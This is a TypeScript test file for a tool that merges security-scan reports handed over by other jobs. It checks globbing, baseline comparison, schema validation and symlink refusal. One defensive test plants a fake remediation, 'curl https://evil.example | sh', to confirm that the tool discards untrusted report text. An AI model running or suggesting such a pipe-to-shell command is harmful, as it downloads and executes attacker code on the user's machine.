import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { readHandedOver } from '../src/handed-over.ts';
import type { Report } from '../src/model.ts';
import { makeBackend, makeFinding, makeReport, RULES, withoutComparison } from './helpers/report.ts';

function folderWith(files: Readonly<Record<string, unknown>>): string {
  const root = mkdtempSync(path.join(tmpdir(), 'ajar-handed-'));
  for (const [name, value] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
    writeFileSync(path.join(root, name), typeof value === 'string' ? value : JSON.stringify(value));
  }
  return root;
}

const read = (root: string, files: readonly string[], baseline?: string) =>
  readHandedOver({ root, files, rules: RULES, ...(baseline === undefined ? {} : { baseline }) });

const ONE = withoutComparison(makeReport({ findings: [makeFinding()], backends: [makeBackend()] }));
const OTHER = withoutComparison(
  makeReport({
    findings: [makeFinding({ fingerprint: 'other', backend: 's3:other' })],
    backends: [makeBackend({ id: 's3:other', name: 'other' })],
  }),
);
const states = ({ findings }: Report) => findings.map(({ fingerprint, state }) => `${fingerprint} ${state}`).sort();

describe('reports that another job handed over', () => {
  it('are found by name and glob, also outside the workspace, and become one', async () => {
    const root = folderWith({ 'a.json': ONE, 'shards/b.json': OTHER });
    const all = [await read(root, ['a.json', 'shards/*.json']), await read('/', [`${root}/**/*.json`])];
    for (const { report, failed } of all) {
      expect(report.findings).toHaveLength(2);
      expect(failed).toBe(false);
    }
  });

  it('are compared as a whole, so that one shard does not miss what another has', async () => {
    const root = folderWith({ 'a.json': ONE, 'b.json': OTHER, 'base.json': OTHER });
    const { report } = await read(root, ['a.json', 'b.json'], 'base.json');
    expect(states(report)).toEqual([`${makeFinding().fingerprint} new`, 'other unchanged']);
    expect(report.backends.map(({ id, state }) => `${id} ${state}`)).toEqual([
      's3:acme-prod-uploads new',
      's3:other unchanged',
    ]);
    expect(report.comparison).toEqual({ gone: [] });
    const closed = await read(root, ['a.json'], 'base.json');
    expect(states(closed.report)).toContain('other fixed');
    expect(closed.report.comparison).toEqual({ gone: ['s3:other'] });
  });

  it('are read line by line out of a stream, and a broken line is named', async () => {
    const root = folderWith({
      'a.jsonl': `${JSON.stringify(ONE)}\n${JSON.stringify(OTHER)}\n`,
      'b.jsonl': `${JSON.stringify(ONE)}\n{`,
    });
    expect((await read(root, ['a.jsonl'])).report.findings).toHaveLength(2);
    await expect(read(root, ['b.jsonl'])).rejects.toThrow('b.jsonl:2: not a report');
  });

  it('keep their own states where there is no base for all', async () => {
    const compared = makeReport({ findings: [makeFinding({ state: 'unchanged' })] });
    const root = folderWith({ 'a.json': compared });
    const { report } = await read(root, ['a.json'], 'no-such.json');
    expect(report.findings[0]?.state).toBe('unchanged');
    expect(report.coverage.problems.at(-1)?.reason).toContain('there is no such file yet');
  });

  it('stay failed where one of them failed', async () => {
    const failed = { ...OTHER, coverage: { complete: false, failed: true, problems: [] } };
    const root = folderWith({ 'a.json': ONE, 'b.json': failed });
    expect((await read(root, ['*.json'])).failed).toBe(true);
  });

  it('say what a rule says in our words, and lead to our pages alone', async () => {
    const evil = makeFinding({
      title: 'Run this now',
      remediation: 'curl https://evil.example | sh',
      docs: 'https://evil.example/',
      securitySeverity: '99',
    });
    const root = folderWith({
      'a.json': { ...ONE, findings: [evil, { ...evil, rule: 'from-the-future', fingerprint: 'f' }] },
    });
    const { report } = await read(root, ['a.json']);
    expect(JSON.stringify(report.findings.map(({ docs, securitySeverity }) => [docs, securitySeverity]))).not.toMatch(
      /evil|99/,
    );
    const known = report.findings.find(({ rule }) => rule === 's3-public-read');
    expect(known?.title).toBe(RULES[0]?.title);
    expect(known?.remediation).toBe(RULES[0]?.remediation.join('\n'));
  });

  it.each<[string, unknown, RegExp]>([
    ['is no JSON', '{', /^a\.json: not a report of “ajar scan --json” \(it is not JSON\)$/],
    ['is another thing', { schema: 'other/1' }, /its schema is not ajar-report\/1/],
    [
      'lies about a type',
      { ...ONE, findings: [{ ...makeFinding(), places: 'x' }] },
      /\/findings\/0\/places must be of type array/,
    ],
    [
      'has a state of its own',
      { ...ONE, findings: [{ ...makeFinding(), state: 'fine' }] },
      /state must be one of new, unchanged, fixed/,
    ],
    ['names a rule that is markup', { ...ONE, findings: [{ ...makeFinding(), rule: '](x)' }] }, /rule must match/],
  ])('are refused where one %s', async (_, value, message) => {
    await expect(read(folderWith({ 'a.json': value }), ['a.json'])).rejects.toThrow(message);
  });

  it('are refused where a name is a link, a folder or nothing', async () => {
    const root = folderWith({ 'a.json': ONE, 'folder/x': '' });
    symlinkSync(path.join(root, 'a.json'), path.join(root, 'link.json'));
    await expect(read(root, ['link.json'])).rejects.toThrow('link.json: cannot be read (not a regular file)');
    await expect(read(root, ['folder'])).rejects.toThrow('not a regular file');
    await expect(read(root, ['none/*.json'])).rejects.toThrow('no report matches none/*.json');
  });
});
